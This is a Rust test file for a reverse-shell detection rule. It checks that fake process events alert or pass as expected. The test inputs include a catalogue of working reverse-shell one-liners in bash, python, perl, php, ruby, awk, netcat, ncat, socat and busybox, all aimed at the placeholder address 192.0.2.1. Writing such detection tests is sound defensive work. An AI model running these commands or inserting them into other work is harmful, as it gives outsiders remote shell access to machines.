use ocellus_sdk::prelude::{CRITICAL, HIGH, fields};
use ocellus_sdk::testing::{FakeEvent, Tester};
use reverse_shell::ReverseShell;

fn rule() -> Tester<ReverseShell> {
    Tester::new()
}

#[test]
fn redirections_to_the_network_alert() {
    for script in [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196",
        "sh -i >& /dev/udp/192.0.2.1/53 0>&1",
        "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect x:1 > /tmp/s",
    ] {
        let alert = rule().expect_alert(&FakeEvent::exec("/usr/bin/bash", ["bash", "-c", script]));
        assert_eq!(alert.severity, CRITICAL, "{script}");
    }
}

#[test]
fn scripting_languages_alert() {
    let python = "import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",1));\
                  os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])";
    let perl =
        "use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$p)){exec(\"/bin/sh -i\");};";
    let php = "$s=fsockopen(\"192.0.2.1\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");";
    let ruby = "f=TCPSocket.open(\"192.0.2.1\",1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)";
    let awk = "BEGIN{s=\"/inet/tcp/0/192.0.2.1/1\";while(1){s|&getline c;while((c|&getline)>0)}}";
    for (executable, option, script) in [
        ("/usr/bin/python3.11", "-c", python),
        ("/usr/bin/perl", "-e", perl),
        ("/usr/bin/php8.2", "-r", php),
        ("/usr/bin/ruby", "-rsocket", ruby),
        ("/usr/bin/gawk", "--", awk),
    ] {
        rule().expect_alert(&FakeEvent::exec(executable, ["x", option, script]));
    }
}

#[test]
fn netcats_and_socat_alert() {
    for args in [
        ["nc", "-e", "/bin/sh", "192.0.2.1", "4444"],
        ["nc", "-lvpe", "/bin/bash", "-p", "4444"],
        ["ncat", "192.0.2.1", "4444", "--exec", "/bin/bash"],
        ["ncat", "-l", "4444", "-c", "bash"],
    ] {
        let alert = rule().expect_alert(&FakeEvent::exec("/usr/bin/ncat", args));
        assert_eq!(alert.tags, ["reverse-shell"], "{args:?}");
    }
    let socat = ["socat", "tcp-connect:192.0.2.1:4444", "exec:'bash -li',pty,stderr,setsid"];
    rule().expect_alert(&FakeEvent::exec("/usr/bin/socat", socat));
    let busybox = ["busybox", "nc", "192.0.2.1", "4444", "-e", "/bin/sh"];
    rule().expect_alert(&FakeEvent::exec("/bin/busybox", busybox));
}

#[test]
fn an_interactive_shell_without_a_terminal_alerts() {
    let shell = FakeEvent::exec("/usr/bin/bash", ["bash", "-i"]).parent("/usr/bin/python3", []);
    let alert = rule().expect_alert(&shell.clone().with(fields::PROCESS_INTERACTIVE, false));
    assert_eq!(alert.severity, HIGH);
    assert_eq!(alert.message, "python3 gave user an interactive shell without a terminal");
    rule().expect_pass(&shell.clone().with(fields::PROCESS_INTERACTIVE, true));
    rule().expect_pass(&shell);
}

#[test]
fn ordinary_network_use_passes() {
    for args in [
        ["nc", "-z", "-v", "db", "5432"],
        ["nc", "-l", "-p", "4444", "-v"],
        ["nc", "-vc", "db", "5432", "-4"],
    ] {
        rule().expect_pass(&FakeEvent::exec("/usr/bin/nc", args));
    }
    let probe = ["bash", "-c", "timeout 1 cat < /dev/null > /dev/tcp/db/5432"];
    rule().expect_pass(&FakeEvent::exec("/usr/bin/bash", probe));
    let relay = ["socat", "tcp-listen:80,fork", "tcp:web:8080"];
    rule().expect_pass(&FakeEvent::exec("/usr/bin/socat", relay));
    let query = ["python3", "-c", "import socket; print(socket.gethostname())"];
    rule().expect_pass(&FakeEvent::exec("/usr/bin/python3", query));
    let busybox = ["busybox", "sed", "-e", "/bin/d"];
    rule().expect_pass(&FakeEvent::exec("/bin/busybox", busybox));
}

#[test]
fn an_editor_that_asks_a_shell_for_its_environment_passes() {
    let args = ["/bin/bash", "-i", "-l", "-c", "env"];
    let event = FakeEvent::exec("/usr/bin/bash", args).with(fields::PROCESS_INTERACTIVE, false);
    rule().expect_pass(&event);
}

#[test]
fn nearly_nothing_is_asked_about() {
    for args in [["bash", "-c", "make all"], ["git", "commit", "-m"], ["python3", "-m", "http"]] {
        assert!(!rule().wants(&FakeEvent::exec(&format!("/usr/bin/{}", args[0]), args)));
    }
}
